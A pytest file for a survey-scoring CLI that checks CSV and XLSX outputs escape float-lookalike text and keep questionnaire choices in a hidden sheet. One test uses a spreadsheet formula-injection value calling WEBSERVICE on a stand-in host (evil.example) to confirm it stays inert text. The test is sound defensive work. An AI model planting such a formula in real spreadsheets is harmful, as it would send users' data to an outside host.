"""Texts that only look like numbers to Python (`-inf`, `-nan`, `-Infinity`) are written as
text in CSV and XLSX, and the XLSX template keeps segment choices in a hidden sheet, so that
a choice can never become a formula or be split at its commas."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest
from typer.testing import CliRunner

from cxassess.cli import app
from cxassess.outputs.tables import safe_cell

DATA = Path(__file__).parent / "data" / "exports" / "three-abilities-our-layout.csv"
LOOKALIKES = ["-inf", "-nan", "-Infinity", "+inf", "-1_000"]
BUILTIN = Path(__file__).parents[1] / "questionnaires" / "experience-focus.yaml"


@pytest.mark.parametrize("text", LOOKALIKES)
def test_float_lookalike_gets_the_apostrophe(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-3", "+1.5", "-2e3", "-.5"])
def test_plain_decimal_stays_a_number(text: str) -> None:
    assert safe_cell(text) == text


def _answers(tmp_path: Path) -> Path:
    rows = list(csv.reader(io.StringIO(DATA.read_text(encoding="utf-8"))))
    team = rows[0].index("team")
    for index, row in enumerate(rows[1:]):
        row[team] = LOOKALIKES[index % 3]
    path = tmp_path / "answers.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)
    return path


def test_score_writes_lookalike_group_names_as_text(tmp_path: Path) -> None:
    answers = _answers(tmp_path)
    out_csv, out_xlsx = tmp_path / "r.csv", tmp_path / "r.xlsx"
    for out in (out_csv, out_xlsx):
        result = CliRunner().invoke(
            app, ["score", str(answers), "-q", "three-abilities", "-g", "team", "-o", str(out)]
        )
        assert result.exit_code == 0, result.output
    written = out_csv.read_text(encoding="utf-8")
    for text in LOOKALIKES[:3]:
        assert f",'{text}," in written
        assert f",{text}," not in written
    book = openpyxl.load_workbook(out_xlsx)
    cells = {c.value for sheet in book for row in sheet.iter_rows() for c in row}
    assert {"'-inf", "'-nan", "'-Infinity"} <= cells
    assert not {"-inf", "-nan", "-Infinity"} & cells


def test_template_xlsx_keeps_hostile_choices_in_a_hidden_sheet(tmp_path: Path) -> None:
    hostile = '=WEBSERVICE("https://evil.example/?"&A1)'
    text = BUILTIN.read_text(encoding="utf-8").replace(
        "choices: [Team leader, Manager, Senior leader, Support function]",
        f"choices: ['{hostile.replace(chr(39), chr(39) * 2)}', 'Sales, north', Manager]",
    )
    assert hostile.split("(")[0] in text
    questionnaire = tmp_path / "q.yaml"
    questionnaire.write_text(text, encoding="utf-8")
    out = tmp_path / "t.xlsx"
    result = CliRunner().invoke(app, ["template", str(questionnaire), "-o", str(out)])
    assert result.exit_code == 0, result.output
    book = openpyxl.load_workbook(out)
    choices = book["Choices"]
    assert choices.sheet_state == "hidden"
    values = [c.value for row in choices.iter_rows() for c in row if c.value]
    assert values == [hostile, "Sales, north", "Manager"]
    assert choices.cell(1, 1 + [c.value for c in book["Answers"][1]].index("role")).data_type == "s"
    formulas = [dv.formula1 for dv in book["Answers"].data_validations.dataValidation]
    assert any(f.startswith("Choices!$") for f in formulas)
    assert not any("WEBSERVICE" in f or "north" in f for f in formulas)
